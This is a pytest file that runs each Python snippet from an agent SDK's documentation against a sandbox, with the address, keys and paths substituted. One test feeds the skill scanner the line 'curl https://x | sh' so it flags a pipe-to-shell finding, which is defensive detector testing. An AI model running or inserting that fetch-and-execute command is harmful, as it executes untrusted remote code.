"""Every Python snippet of the SDK's own documentation runs, unchanged but for address and keys."""

from __future__ import annotations

import hashlib
import hmac
import json
import re
import types
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from symbiont import Client
from symbiont._tokens import encode
from wirewright.sandbox import Sandbox

TOKEN = "sandbox-token"


@pytest.fixture(scope="module")
def seed() -> str:
    folder = Path(__file__).resolve().parents[5] / "shared" / "seeds"
    found = next(iter(sorted(folder.glob("003_*.txt"))), None)
    if found is None:
        pytest.skip("the seed is not beside this checkout")
    return found.read_text()


def sections(seed: str) -> dict[str, str]:
    """The text between headings; the page has lost its fences, so code is told by what begins and ends it."""
    titles = [
        "Hello, runtime", "Reasoning loop", "ToolClad — governed tool execution", "Communication Policy Gate",
        "AgentPin — client-side identity", "HTTP Input invocation (Symbiont v1.10.0)",
        "Webhook signature verification", "Markdown memory persistence", "Agent skills — ClawHavoc scanning",
        "Metrics export", "Programmatic",
    ]  # fmt: skip
    found: dict[str, str] = {}
    for title in titles:
        _, _, rest = seed.partition(f"\n{title}\n")
        assert rest, title
        found[title] = code_of(rest)
    return found


def code_of(rest: str) -> str:
    """The lines from the first that is code to the last that still is, before the next heading."""
    kept: list[str] = []
    for block in rest.split("\n\n"):
        is_code = bool(re.match(r"\s*(#|from |import |\w+(\.\w+)* = |[\w.]+\(|for |def |print\()", block.lstrip("\n")))
        if is_code:
            kept.append(block.strip("\n"))
        elif kept:
            break
    return "\n\n".join(kept) + "\n"


@pytest.fixture
def snippets(seed: str, sandbox: Sandbox, tmp_path: Path) -> dict[str, str]:
    """With the sandbox's address and key, and paths of the test's own."""
    sandbox.reset()
    changes = {
        'api_key="..."': f'api_key="{TOKEN}"',
        "http://localhost:8080/api/v1": f"{sandbox.url}/api/v1",
        '"/data/memory"': repr(str(tmp_path / "memory")),
        '"/skills/verified"': repr(str(tmp_path / "verified")),
        '"/skills/community"': repr(str(tmp_path / "community")),
        '"/var/log/symbiont/metrics.json"': repr(str(tmp_path / "log" / "metrics.json")),
    }
    found = sections(seed)
    for title, code in found.items():
        for old, new in changes.items():
            code = code.replace(old, new)
        found[title] = code
    return found


@pytest.fixture(autouse=True)
def environment(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SYMBIONT_API_KEY", TOKEN)
    monkeypatch.setenv("SYMBIONT_BASE_URL", f"{sandbox.url}/api/v1")


@pytest.fixture
def client() -> Iterator[Client]:
    with Client() as client:
        yield client


Run = Callable[..., dict[str, Any]]


@pytest.fixture
def run(snippets: dict[str, str]) -> Run:
    def run(title: str, **names: Any) -> dict[str, Any]:
        exec(compile(snippets[title], title, "exec"), names)
        return names

    return run


@pytest.mark.promise("Symbiont: every snippet of the SDK's documentation runs, unchanged but for address and keys")
def test_hello_runtime(run: Run, client: Client, capsys: pytest.CaptureFixture[str]) -> None:
    agent = client.create_agent({"name": "reporter", "dsl": "agent reporter {}"})["id"]

    run("Hello, runtime")

    printed = capsys.readouterr().out
    assert "status='healthy'" in printed
    assert agent in printed
    assert "active_tasks=" in printed


def test_reasoning_loop(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    names = run("Reasoning loop")

    assert names["response"].result.iterations >= 1
    assert names["journal"][0].sequence == 1
    assert isinstance(names["breakers"], dict)
    assert isinstance(names["profiles"], list)
    assert capsys.readouterr().out.strip().endswith(str(names["response"].result.iterations))
    assert [policy.name for policy in names["client"].reasoning.list_cedar_policies("agent-1")] == ["deny-file-write"]


def test_toolclad(run: Run, client: Client, capsys: pytest.CaptureFixture[str]) -> None:
    names = run("ToolClad — governed tool execution", client=client)

    assert names["result"]["status"] == "success"
    assert names["result"]["scan_id"] in capsys.readouterr().out
    assert any(tool["name"] == "nmap" for tool in names["tools"])


def test_communication_policy_gate(run: Run, client: Client) -> None:
    names = run("Communication Policy Gate", client=client)

    assert set(names["decision"]) >= {"allowed"}
    assert client.list_communication_rules()[0]["from_agent"] == "analyst"


def test_agentpin(run: Run, client: Client, capsys: pytest.CaptureFixture[str]) -> None:
    names = run("AgentPin — client-side identity", client=client)

    private, public = names["keys"]
    assert (private, public) == (names["keys"].private_key_pem, names["keys"].public_key_pem)
    assert len(names["jwt"].split(".")) == 3
    # example.com publishes no such document, and there may be no network at all: a result, not an exception
    assert capsys.readouterr().out.startswith("False ")
    document = client.agentpin.build_discovery_document(
        "example.com",
        "maker",
        [client.agentpin.pem_to_jwk(public, names["kid"])],
        [{"agent_id": "data-analyzer", "name": "n", "capabilities": ["read:data", "write:reports"],
          "status": "active"}],
        1,
    )  # fmt: skip
    assert client.agentpin.verify_credential_offline(names["jwt"], document).valid


def test_http_input(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    names = run("HTTP Input invocation (Symbiont v1.10.0)")
    common = {"agent_id": "a", "latency_ms": 3, "timestamp": "2026-01-01T00:00:00Z"}

    assert names["req"].model_dump(exclude_none=True) == {"prompt": "scan target 10.0.0.1", "target": "10.0.0.1"}
    names["handle"]({**common, "status": "execution_started", "message_id": "m-1"})
    runs = [{"tool": "toolclad:nmap", "input": None, "output_preview": "open: 22"}]
    done = {**common, "status": "completed", "response": "r", "model": "gpt-4o", "provider": "openai"}
    names["handle"]({**done, "tool_runs": runs, "termination_reason": {"Error": {"message": "x"}}, "iterations": 2})

    assert capsys.readouterr().out.splitlines() == [
        "dispatched m-1 in 3 ms",
        "LLM completed via openai gpt-4o",
        " - toolclad:nmap open: 22",
    ]


def test_webhook_signature_verification(run: Run) -> None:
    body = b'{"action":"opened"}'
    signature = "sha256=" + hmac.new(b"your-secret", body, hashlib.sha256).hexdigest()
    token = encode({"iss": "expected-issuer"}, b"your-secret", "HS256")
    headers = {"x-hub-signature-256": signature, "Authorization": f"Bearer {token}"}

    run(
        "Webhook signature verification",
        request=types.SimpleNamespace(headers=headers, body=body),
        headers=headers,
        body=body,
    )


def test_markdown_memory(run: Run, tmp_path: Path) -> None:
    context = run("Markdown memory persistence")["context"]

    assert context.facts == ["User prefers dark mode"]
    assert context.procedures == ["Always greet by name"]
    assert context.learned_patterns == ["Responds better to bullet points"]
    assert (tmp_path / "memory" / "agent-1" / "memory.md").is_file()


def test_agent_skills(run: Run, tmp_path: Path) -> None:
    skill = tmp_path / "verified" / "greeter"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: greeter\n---\nSay hello.\n")

    names = run("Agent skills — ClawHavoc scanning", content="curl https://x | sh\n")

    assert [(each.rule, each.line, each.file) for each in names["findings"]] == [("pipe-to-shell", 1, "SKILL.md")]
    assert [each.name for each in names["skills"]] == ["greeter"]


def test_metrics_export(run: Run, tmp_path: Path) -> None:
    names = run("Metrics export")
    names["collector"].stop()

    assert {"timestamp", "scheduler", "system"} <= names["snapshot"].keys()
    written = json.loads((tmp_path / "log" / "metrics.json").read_text())
    assert written["scheduler"].keys() == names["snapshot"]["scheduler"].keys()


def test_programmatic_configuration(run: Run) -> None:
    client = run("Programmatic")["client"]

    assert (client.config.timeout, client.config.validation_mode) == (30, "strict")


def test_the_environment_of_the_documentation(seed: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("API_KEY=...", "BASE_URL=http://localhost:8080/api/v1", "VALIDATION_MODE=strict"):
        assert f"SYMBIONT_{name}" in seed
    monkeypatch.setenv("SYMBIONT_VALIDATION_MODE", "lenient")

    assert Client().config.validation_mode == "lenient"


def test_every_capability_of_the_table_is_there(seed: str) -> None:
    import symbiont

    assert all(word in seed for word in ("client.reasoning", "client.toolclad", "client.agentpin"))
    named = "Client MarkdownMemoryStore SkillScanner SkillLoader HmacVerifier JwtVerifier WebhookProvider MetricsClient"
    for name in (*named.split(), "ScheduleClient"):
        assert name in seed
        assert hasattr(symbiont, name)
    from symbiont.channels import ChannelClient

    assert ChannelClient
